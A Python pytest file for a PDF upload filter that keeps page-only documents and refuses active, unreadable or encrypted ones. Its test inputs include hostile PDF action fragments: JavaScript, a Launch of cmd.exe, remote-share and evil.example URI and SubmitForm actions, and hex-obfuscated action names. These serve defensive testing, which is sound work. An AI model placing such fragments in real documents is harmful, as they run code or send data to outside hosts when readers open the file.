"""Which PDFs are kept: those of pages alone, whatever program wrote them."""

import zlib

import pytest

from adapters.documents import media_type_of
from domain.documents.refusals import refused
from domain.errors import DocumentRefused
from tests.documents import PDF, packed, pdf, stream, updated

CATALOG = b"<</Type/Catalog/Pages 2 0 R%s>>"


def outcome(content: bytes) -> str:
    """The media type, or the code of the refusal."""
    try:
        return media_type_of(content)
    except DocumentRefused as refusal:
        return refusal.code


def catalog(more: bytes, *objects: bytes) -> bytes:
    """A PDF of one page that says this of itself as a whole."""
    return updated(pdf(*objects), {1: CATALOG % more})


def page(more: bytes) -> bytes:
    return updated(PDF, {3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]%s>>" % more})


def with_tables_in_streams(*objects: bytes) -> bytes:
    """As today's programs write them: everything packed, and a stream for a table."""
    text = b"%PDF-1.7\n"
    own = (CATALOG % b"", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", *objects)
    numbers, inside = b"", b""
    for number, one in enumerate(own, start=1):
        numbers += b"%d %d " % (number, len(inside))
        inside += one + b" "
    pack = b"/Type/ObjStm/N %d/First %d/Filter/FlateDecode" % (len(own), len(numbers))
    place = len(text)
    text += b"8 0 obj\n%s\nendobj\n" % stream(zlib.compress(numbers + inside), pack)
    rows = [b"\0\0\0\0", *(b"\2\0\10%c" % index for index in range(len(own)))]
    rows += [b"\0\0\0\0"] * (8 - len(rows)) + [b"\1%c%c\0" % divmod(place, 256)]
    rows += [b"\1%c%c\0" % divmod(len(text), 256)]
    table = b"/Type/XRef/W[1 2 1]/Size 10/Root 1 0 R/Filter/FlateDecode"
    start = len(text)
    text += b"9 0 obj\n%s\nendobj\n" % stream(zlib.compress(b"".join(rows)), table)
    return text + b"startxref\n%d\n%%%%EOF" % start


def with_tables_of_both_kinds() -> bytes:
    """As Word writes them: a table for older programs, which leads to one in a stream."""
    text = pdf(packed(b"<</Type/Font>>"))
    table = b"/Type/XRef/W[1 2 1]/Index[90 1]/Size 99/Root 1 0 R"
    hidden, before = len(text), int(text.rpartition(b"startxref")[2].split()[0])
    text += b"9 0 obj\n%s\nendobj\n" % stream(b"\2\0\4\0", table)
    more = b"<</Size 99/Root 1 0 R/Prev %d/XRefStm %d>>" % (before, hidden)
    start = len(text)
    return text + b"xref\n0 0\ntrailer\n%s\nstartxref\n%d\n%%%%EOF\n" % (more, start)


ORDINARY = {
    "text and pictures": pdf(
        stream(zlib.compress(b"BT (JavaScript) Tj ET"), b"/Filter/FlateDecode"),
        stream(b"\xff\xd8\xff", b"/Type/XObject/Subtype/Image/Filter/DCTDecode"),
        stream(b"x", b"/Type/XObject/Subtype/Image/Filter[/ASCII85Decode/CCITTFaxDecode]"),
    ),
    "a font": pdf(b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"),
    "a font called F": page(b"/Resources<</Font<</F<</Type/Font/Subtype/TrueType>>>>>>"),
    "words about programs": pdf(b"(A sentence about /JavaScript and /Launch)"),
    "a signature": catalog(
        b"/AcroForm<</SigFlags 3/Fields[4 0 R]>>/Perms<</DocMDP 5 0 R>>",
        b"<</Type/Annot/Subtype/Widget/FT/Sig/F 132/V 5 0 R>>",
        b"<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached/Contents<00>>>",
    ),
    "a link to a page": page(b"/Annots[<</Type/Annot/Subtype/Link/A<</S/GoTo/D[3 0 R/Fit]>>>>]"),
    "opened at a page": catalog(b"/OpenAction[3 0 R/Fit]"),
    "headings": catalog(b"/Outlines<</First 4 0 R>>", b"<</Title(A)/A<</S/GoTo/D(a)>>>>"),
    "tags": pdf(b"<</Type/StructElem/S/P/A<</O/Layout/Width 3>>/K[1 2]>>"),
    "names of places": catalog(b"/Names<</Dests 4 0 R>>", b"<</Names[(a)[3 0 R/Fit]]>>"),
    "packed objects": pdf(packed(b"<</Type/Font>>")),
    "tables in streams": with_tables_in_streams(b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"),
    "tables of both kinds": with_tables_of_both_kinds(),
    "signed later": updated(PDF, {4: b"<</Type/Annot/Subtype/Stamp/F 4>>"}),
    "a length elsewhere": pdf(b"<</Length 5 0 R>>\nstream\nabc\nendstream", b"3"),
    "a profile of colours": pdf(stream(b"x", b"/N 3/Alternate/DeviceRGB")),
}


@pytest.mark.parametrize("content", ORDINARY.values(), ids=ORDINARY.keys())
def test_what_programs_write_for_pages_is_kept(content: bytes) -> None:
    """Text, pictures, links from page to page, signatures, however the file is put together."""
    assert outcome(content) == "application/pdf"


ACTIONS = [
    b"<</S/JavaScript/JS(app.alert(1))>>",
    b"<</S /JavaScript /JS 5 0 R>>",
    b"<</S/J#61vaScript>>",
    b"<</S/#4a#61#76#61#53#63#72#69#70#74>>",
    b"<</S/Launch/F(cmd.exe)>>",
    b"<</S/GoToR/F(\\\\\\\\evil\\\\share)/D[0/Fit]>>",
    b"<</S/GoToE/T<</R/C>>>>",
    b"<</S/URI/URI(https://evil.example)>>",
    b"<</S/SubmitForm/F(https://evil.example)>>",
    b"<</S/ImportData/F(a.fdf)>>",
    b"<</S/Named/N/Print>>",
    b"<</S/GoTo/D(a)/Next<</S/URI/URI(a:b)>>>>",
    b"<</Names<</EmbeddedFiles 7 0 R>>>>",
    b"<</Type/EmbeddedFile>>",
    b"<</Type/Filespec/EF<</F 7 0 R>>>>",
    b"<</Type/Annot/Subtype/FileAttachment>>",
    b"<</Type/Annot/Subtype/RichMedia>>",
    b"<</Type/Annot/Subtype/Screen>>",
    b"<</Type/Annot/Subtype/3D>>",
    b"<</Type/Page/AA<</O 7 0 R>>>>",
    b"<</XFA[(template)7 0 R]>>",
    b"<</F(other.pdf)>>",
    b"<</A<</S/Unheard>>>>",
    b"<</S 7 0 R>>",
    b"<</Type(Catalog)>>",
    b"[[<<(no name) 1>>]]",
    b"<</S/GoTo/S/Launch>>",
    b"<</S/JavaScript\0/K 1>>",
    b"<</AA\0<</O 7 0 R>>>>",
    b"<</AA#00 7 0 R>>",
    b"<<%\r/AA 7 0 R\n>>",
    b"<</K(\\\\)/AA 7 0 R>>",
]
TYPED = b"/Type/ObjStm/Filter/FlateDecode"
PLACES = {
    "an object": lambda one: pdf(one),
    "within an object": lambda one: pdf(b"<</K[<</L " + one + b">>]>>"),
    "packed": lambda one: pdf(packed(one)),
    "packed without a type": lambda one: pdf(packed(one, b"/Filter/FlateDecode")),
    "packed, with words": lambda one: pdf(packed(one, TYPED + b"/Note(obj)")),
    "packed, with a comment": lambda one: pdf(packed(one, TYPED + b"%" + b"x" * 17_000 + b"\n")),
    "packed by a filter elsewhere": lambda one: pdf(
        packed(one, b"/Type/ObjStm/Filter 5 0 R"), b"/FlateDecode"
    ),
    "packed, with a lone return": lambda one: pdf(
        packed(one).replace(b"stream\n", b"stream\r", 1)
    ),
    "in an earlier version": lambda one: updated(pdf(one), {4: b"null"}),
    "added later": lambda one: updated(pdf(b"null"), {4: one}),
    "in no table": lambda one: updated(
        PDF, {3: b"<</Type/Page>>\nendobj\n4 0 obj\n" + one}
    ),
    "in a trailer": lambda one: pdf(trailer=b"/Root 1 0 R/Info " + one),
}  # fmt: skip


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("action", ACTIONS, ids=str)
def test_what_does_or_brings_or_fetches_something_is_refused(action: bytes, place: str) -> None:
    """Wherever it stands, and however its name is written."""
    assert outcome(PLACES[place](action)) in {"active", "not_plain"}


OTHERS = {
    "opened with a program": catalog(b"/OpenAction 4 0 R", b"<</S/JavaScript>>"),
    "opened with another site": catalog(b"/OpenAction<</S/URI/URI(a:b)>>"),
    "attached files": catalog(b"/Names<</EmbeddedFiles<</Names[]>>>>"),
    "programs by name": catalog(b"/Names 4 0 R", b"<</JavaScript<</Names[]>>>>"),
    "a portfolio": catalog(b"/Collection<</View/D>>"),
    "a form with a program": catalog(b"/AcroForm 4 0 R", b"<</XFA(a)>>"),
    "something of the whole that nobody knows": catalog(b"/Unheard 1"),
    "a stream from elsewhere": pdf(stream(b"x", b"/F(a.txt)")),
    "a filter that nobody knows": pdf(stream(b"x", b"/Filter/Unheard")),
    "a locking filter": pdf(stream(b"x", b"/Filter[/Crypt]")),
    "objects packed otherwise": pdf(stream(b"x", b"/Type/ObjStm/N 1/First 4/Filter/LZWDecode")),
    "objects packed for long": pdf(packed(b"0" * 40_000_000)),
    "objects that are not all there": pdf(packed(b"<</Type/Font>>").replace(b"/N 1", b"/N 2")),
    "a stream that goes on": pdf(b"<</Length 900>>\nstream\nabc\nendstream"),
    "bytes between objects": PDF.replace(b"xref\n", b"<</S/Launch>>\nxref\n", 1),
    "a table that leads elsewhere": PDF.replace(b"0000000009 0", b"0000000010 0", 1),
    "no table": PDF.replace(b"xref\n0", b"none\n0", 1),
    "nested without end": pdf(b"[" * 100_000),
}


@pytest.mark.parametrize("content", OTHERS.values(), ids=OTHERS.keys())
def test_what_is_not_understood_is_refused(content: bytes) -> None:
    """Programs would make something of it, and not all the same."""
    assert outcome(content) in {"active", "not_plain"}


@pytest.mark.parametrize(
    "lock", [b"/Encrypt 9 0 R", b"/Encrypt<</Filter/Standard>>", b"/Encrypt 5"]
)
def test_what_is_locked_is_said_to_be(lock: bytes) -> None:
    """By a password of its reader's, or of nobody's."""
    for content in (pdf(trailer=b"/Root 1 0 R" + lock), updated(PDF, {4: b"null"}, lock)):
        assert outcome(content) in {"locked", "not_plain"}


@pytest.mark.parametrize("code", ["active", "not_plain", "locked"])
def test_what_is_refused_can_be_mended(code: str) -> None:
    """By printing it, which leaves pages alone."""
    message = refused(code).message
    assert message.endswith("upload that.")
    assert "new PDF" in message or "without" in message
